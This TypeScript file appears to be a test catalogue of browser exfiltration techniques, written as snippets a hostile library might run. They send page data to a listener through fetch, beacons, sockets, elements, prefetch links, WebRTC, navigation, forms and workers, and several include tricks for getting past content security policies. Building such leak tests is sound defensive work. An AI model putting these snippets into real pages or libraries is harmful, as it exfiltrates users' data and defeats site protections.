/**
 * Ways to take a text off the page, as the code that a hostile library would run. `http` is the address of a listener that
 * no other attack uses, `port` a UDP port of its own; `put` makes an element and puts it into the page.
 */
export interface Attack {
  readonly name: string;
  readonly where: "page" | "worker";
  readonly code: string;
  /** It takes the tab elsewhere where it succeeds, or needs a click of its own to open another. */
  readonly alone?: true;
  /** Not heard of on a page without any wall either: the browser has no such thing here, or asks a person first. */
  readonly unheard?: true;
}

/** Stands before the code of an attack on the page. */
export const tools = `
const put = (name, set, into = document.body) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(set)) made.setAttribute(key, value);
  made.setAttribute("data-attack", "");
  into.append(made);
  return made;
};
const call = async (Connection, address, more = {}) => {
  const connection = new Connection({ iceServers: [{ urls: address, ...more }] });
  connection.createDataChannel("rows");
  await connection.setLocalDescription(await connection.createOffer());
};
`;

const page = (name: string, code: string, more: Partial<Attack> = {}): Attack => ({
  name,
  where: "page",
  code,
  ...more,
});
const worker = (name: string, code: string, more: Partial<Attack> = {}): Attack => ({
  name,
  where: "worker",
  code,
  ...more,
});
const alone = { alone: true } as const;
const unheard = { unheard: true } as const;

const requests: readonly Attack[] = [
  page("fetch", `await fetch(http + "row", { mode: "no-cors", method: "POST", body: "row" });`),
  page("fetch, keepalive", `await fetch(http, { mode: "no-cors", keepalive: true });`),
  page("fetchLater", `fetchLater(http, { activateAfter: 0 });`, unheard),
  page("XMLHttpRequest", `const r = new XMLHttpRequest(); r.open("GET", http); r.send();`),
  page("WebSocket", `new WebSocket(http.replace("http", "ws"));`),
  page("EventSource", `new EventSource(http);`),
  page("sendBeacon", `navigator.sendBeacon(http, "row");`),
  page("WebTransport", `new WebTransport(http.replace("http:", "https:"));`),
  page("import()", `await import(http + "m.js");`),
  page("Worker", `new Worker(http + "w.js");`, unheard),
  page("SharedWorker", `new SharedWorker(http + "w.js");`, unheard),
  page("service worker", `await navigator.serviceWorker.register(http + "w.js");`, unheard),
  page("worklet", `await new AudioContext().audioWorklet.addModule(http + "w.js");`),
  page("FontFace", `await new FontFace("f", "url(" + http + "f.woff2)").load();`),
];

const elements: readonly Attack[] = [
  page("img", `new Image().src = http;`),
  page("img srcset", `put("img", { srcset: http + " 1x" });`),
  page("input type=image", `put("input", { type: "image", src: http });`),
  page("audio", `put("audio", { src: http, preload: "auto" });`),
  page("video poster", `put("video", { poster: http });`),
  page(
    "track",
    `put("track", { src: http, kind: "subtitles", default: "" }, put("video", {})).track.mode = "showing";`,
    unheard,
  ),
  page("script", `put("script", { src: http });`),
  page("stylesheet link", `put("link", { rel: "stylesheet", href: http });`),
  page("style @import", `put("style", {}).append("@import url(" + http + ");");`),
  page(
    "CSS url() through CSSOM",
    `document.body.style.setProperty("background-image", "url(" + http + ")");`,
  ),
  page(
    "adopted stylesheet",
    `const s = new CSSStyleSheet(); s.replaceSync("body { border-image: url(" + http + ") 1; border-style: solid; }");
     document.adoptedStyleSheets.push(s);`,
  ),
  page(
    "SVG image",
    `const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
     const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
     image.setAttribute("href", http); svg.append(image); document.body.append(svg);`,
  ),
  page(
    "SVG use",
    `const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
     const use = document.createElementNS("http://www.w3.org/2000/svg", "use");
     use.setAttribute("href", http + "u.svg#a"); svg.append(use); document.body.append(svg);`,
    unheard,
  ),
  page("object", `put("object", { data: http });`),
  page("embed", `put("embed", { src: http });`),
  page("iframe", `put("iframe", { src: http });`),
  page("iframe srcdoc", `put("iframe", { srcdoc: "<img src=" + http + ">" });`),
  page(
    "iframe in a namespace",
    `const f = document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe"); f.src = http; document.body.append(f);`,
  ),
  page("markup by innerHTML", `put("div", {}).innerHTML = "<img src=" + http + ">";`),
  page(
    "markup by DOMParser",
    `document.body.append(new DOMParser().parseFromString("<iframe src=" + http + "></iframe>", "text/html").body.firstChild);`,
  ),
  page(
    "markup by document.write",
    `const w = document.implementation.createHTMLDocument(); w.write("<iframe src=" + http + "></iframe>"); document.body.append(w.body.firstChild);`,
  ),
  page("favicon", `document.querySelector("link[rel~=icon]").href = http;`),
  page("link manifest", `put("link", { rel: "manifest", href: http }, document.head);`, unheard),
  page("link preload", `put("link", { rel: "preload", as: "image", href: http }, document.head);`),
  page("link modulepreload", `put("link", { rel: "modulepreload", href: http }, document.head);`),
  page("link prefetch", `put("link", { rel: "prefetch", href: http }, document.head);`),
  page("link preconnect", `put("link", { rel: "preconnect", href: http }, document.head);`),
  page("link dns-prefetch", `put("link", { rel: "dns-prefetch", href: http }, document.head);`),
  page(
    "link dns-prefetch, by attribute node",
    `const l = put("link", { rel: "icon", href: http }); l.getAttributeNode("rel").value = "dns-prefetch";`,
  ),
  page(
    "link dns-prefetch, by relList",
    `const l = put("link", { href: http }); l.relList.add("dns-prefetch");`,
  ),
  page(
    "link dns-prefetch, by a map of attributes",
    `const l = put("link", { rel: "icon", href: http }); l.attributes.rel.value = "dns-prefetch";`,
  ),
  page("DNS look-up for a link's name", `put("a", { href: http });`, unheard),
  page(
    "speculation rules",
    `put("script", { type: "speculationrules" }).append(JSON.stringify({ prefetch: [{ urls: [http], eagerness: "immediate" }] }));`,
    unheard,
  ),
  page(
    "frame by a class of one's own",
    `class Frame extends HTMLIFrameElement {}
     customElements.define("own-frame", Frame, { extends: "iframe" });
     const f = new Frame(); f.src = http; document.body.append(f);`,
  ),
  page(
    "frame by execCommand",
    `const d = put("div", { contenteditable: "" }); d.focus(); document.execCommand("insertHTML", false, "<iframe src=" + http + "></iframe>");`,
    unheard,
  ),
  page("markup by setHTML", `put("div", {}).setHTML("<iframe src=" + http + "></iframe>");`, unheard),
  page("markup by setHTMLUnsafe", `put("div", {}).setHTMLUnsafe("<iframe src=" + http + "></iframe>");`),
];

const beyondPolicy: readonly Attack[] = [
  page("WebRTC, STUN", `await call(RTCPeerConnection, "stun:127.0.0.1:" + port);`),
  page("WebRTC, STUN by its older name", `await call(webkitRTCPeerConnection, "stun:127.0.0.1:" + port);`),
  page(
    "WebRTC, TURN",
    `await call(RTCPeerConnection, "turn:127.0.0.1:" + port, { username: "row", credential: "row" });`,
  ),
  page(
    "WebRTC, text in the ICE ufrag",
    `const c = new RTCPeerConnection(); c.createDataChannel("rows");
     const offer = await c.createOffer(); await c.setLocalDescription(offer);
     const sdp = offer.sdp.replace(/a=ice-ufrag:.*/g, "a=ice-ufrag:patientrow").replace("a=setup:actpass", "a=setup:passive");
     await c.setRemoteDescription({ type: "answer", sdp });
     await c.addIceCandidate({ candidate: "candidate:1 1 udp 2122260223 127.0.0.1 " + port + " typ host", sdpMid: "0" });`,
  ),
  page(
    "WebRTC from an about:blank frame",
    `await call(put("iframe", {}).contentWindow.RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from a srcdoc frame",
    `const f = put("iframe", { srcdoc: "" }); await call(f.contentWindow.RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from a frame's window by number",
    `put("iframe", {}); await call(window[window.length - 1].RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from an object's window",
    `const f = put("object", { data: "about:blank" }); await call((f.contentWindow ?? window[window.length - 1]).RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from an about:blank window",
    `await call(window.open("about:blank").RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from document.open",
    `await call(document.open("about:blank", "_blank", "").RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "WebRTC from picture in picture",
    `await call((await documentPictureInPicture.requestWindow()).RTCPeerConnection, "stun:127.0.0.1:" + port);`,
    unheard,
  ),
  page(
    "WebRTC from a frame in parsed XSLT",
    `
    const ns = "http://www.w3.org/1999/XSL/Transform"; const xsl = document.implementation.createDocument(ns, "xsl:stylesheet");
    xsl.documentElement.setAttribute("version", "1.0");
    const t = xsl.createElementNS(ns, "xsl:template"); t.setAttribute("match", "/");
    const e = xsl.createElementNS(ns, "xsl:element"); e.setAttribute("name", "iframe"); t.append(e); xsl.documentElement.append(t);
    const p = new XSLTProcessor(); p.importStylesheet(xsl);
    const f = p.transformToFragment(document.implementation.createDocument("", "r"), document).firstChild;
    document.body.append(f); await call(f.contentWindow.RTCPeerConnection, "stun:127.0.0.1:" + port);`,
  ),
  page(
    "payment",
    `await new PaymentRequest([{ supportedMethods: http }], { total: { label: "r", amount: { currency: "EUR", value: "1" } } }).canMakePayment();`,
    unheard,
  ),
  page("notification", `new Notification("row", { icon: http });`, unheard),
  page("protocol handler", `navigator.registerProtocolHandler("web+row", http + "%s");`, unheard),
  page(
    "artwork of a media session",
    `navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: http }] });`,
    unheard,
  ),
  page("presentation", `await new PresentationRequest(http).getAvailability();`, unheard),
  page(
    "passkey of another site",
    `await navigator.credentials.create({ publicKey: { rp: { id: new URL(http).hostname, name: "r" }, user: { id: new Uint8Array(1), name: "r", displayName: "r" }, challenge: new Uint8Array(16), pubKeyCredParams: [{ type: "public-key", alg: -7 }] } });`,
    unheard,
  ),
];

const waysOut: readonly Attack[] = [
  page("location = …", `location.href = http + "?row";`, alone),
  page("location.replace", `location.replace(http + "?row");`, alone),
  page("navigation.navigate", `navigation.navigate(http + "?row");`, alone),
  page("a click on a link", `put("a", { href: http + "?row" }).click();`, alone),
  page(
    "a click on a link nobody sees",
    `const a = document.createElement("a"); a.href = http + "?row"; a.click();`,
    alone,
  ),
  page(
    "an event on a link nobody sees",
    `const a = document.createElement("a"); a.href = http + "?row"; a.dispatchEvent(new MouseEvent("click"));`,
    alone,
  ),
  page(
    "an event in a shadow tree",
    `const a = document.createElement("a"); a.href = http + "?row"; put("div", {}).attachShadow({ mode: "open" }).append(a); a.dispatchEvent(new MouseEvent("click"));`,
    alone,
  ),
  page("a link in another tab", `put("a", { href: http + "?row", target: "_blank" }).click();`, alone),
  page("a link's ping", `put("a", { href: "#data", ping: http }).click();`),
  page("a link's download", `put("a", { href: http, download: "row" }).click();`),
  page(
    "a link of an image map",
    `const m = put("map", { name: "m" }); put("area", { href: http + "?row" }, m).click();`,
    alone,
  ),
  page(
    "a link in SVG",
    `const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", http + "?row"); put("div", {}).append(a); a.dispatchEvent(new MouseEvent("click", { bubbles: true }));`,
    alone,
  ),
  page(
    "a page of our own making",
    `const b = URL.createObjectURL(new Blob(["<meta http-equiv=refresh content='0;url=" + http + "'>"], { type: "text/html" })); put("a", { href: b, target: "_blank" }).click();`,
    alone,
  ),
  page(
    "a link that is changed while it is clicked",
    `const a = put("a", { href: "#data" });
     a.addEventListener("click", () => { a.target = "_blank"; a.href = http + "?row"; });
     a.click();`,
    alone,
  ),
  page(
    "a link in SVG that is animated",
    `const ns = "http://www.w3.org/2000/svg";
     const a = document.createElementNS(ns, "a");
     a.setAttribute("href", "#data");
     put("div", {}).append(a);
     const animation = document.createElementNS(ns, "set");
     for (const [name, value] of [["attributeName", "href"], ["to", http + "?row"]]) animation.setAttribute(name, value);
     a.append(animation);
     await new Promise((resolve) => setTimeout(resolve, 50));
     a.dispatchEvent(new MouseEvent("click", { bubbles: true }));`,
    { ...alone, ...unheard },
  ),
  page("form", `const f = put("form", { action: http, method: "post" }); f.submit();`, alone),
  page("form in another tab", `put("form", { action: http, target: "_blank" }).requestSubmit();`, alone),
  page(
    "button of a form in another tab",
    `put("button", {}, put("form", { action: http, target: "_blank" })).click();`,
    alone,
  ),
  page(
    "meta refresh",
    `put("meta", { "http-equiv": "refresh", content: "0;url=" + http }, document.head);`,
    alone,
  ),
  page(
    "meta refresh by an element of the page",
    `const m = document.querySelector("meta[name]") ?? put("meta", {});
     m.httpEquiv = "refresh"; m.content = "0;url=" + http; document.head.append(m);`,
    alone,
  ),
  page("window.open", `window.open(http + "?row");`, alone),
];

/** Runs `code` in a worker that the page's own code makes from a blob. */
const ownWorker = (name: string, code: string): Attack =>
  page(
    `${name} in a worker of its own making`,
    `const source = "const http = " + JSON.stringify(http) + ";" + ${JSON.stringify(code)};
     globalThis.kept = new Worker(URL.createObjectURL(new Blob([source], { type: "text/javascript" })), { type: "module" });`,
  );

const ownWorkers: readonly Attack[] = [
  ownWorker("fetch", `fetch(http, { mode: "no-cors" });`),
  ownWorker("WebSocket", `new WebSocket(http.replace("http", "ws"));`),
  ownWorker("WebTransport", `new WebTransport(http.replace("http:", "https:"));`),
  ownWorker("import()", `import(http + "m.js");`),
  ownWorker("FontFace", `new FontFace("f", "url(" + http + "f.woff2)").load();`),
];

const inWorker: readonly Attack[] = [
  worker("fetch", `await fetch(http, { mode: "no-cors" });`),
  worker(
    "fetch of a prototype",
    `await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, http);`,
    unheard,
  ),
  worker("XMLHttpRequest", `const r = new XMLHttpRequest(); r.open("GET", http); r.send();`),
  worker("WebSocket", `new WebSocket(http.replace("http", "ws"));`),
  worker("EventSource", `new EventSource(http);`),
  worker("WebTransport", `new WebTransport(http.replace("http:", "https:"));`),
  worker("import()", `await import(http + "m.js");`),
  worker("importScripts", `importScripts(http + "m.js");`, unheard),
  worker("FontFace", `await new FontFace("f", "url(" + http + "f.woff2)").load();`),
  worker("a worker of the worker", `new Worker(http + "w.js");`, unheard),
  worker(
    "a worker of the worker, from a blob",
    `new Worker(URL.createObjectURL(new Blob(["fetch('" + http + "', { mode: 'no-cors' })"])));`,
  ),
  worker("notification", `new Notification("row", { icon: http });`, unheard),
];

/** Every attack, in the order of the table. */
export const attacks: readonly Attack[] = [
  ...requests,
  ...elements,
  ...beyondPolicy,
  ...waysOut,
  ...ownWorkers,
  ...inWorker,
];
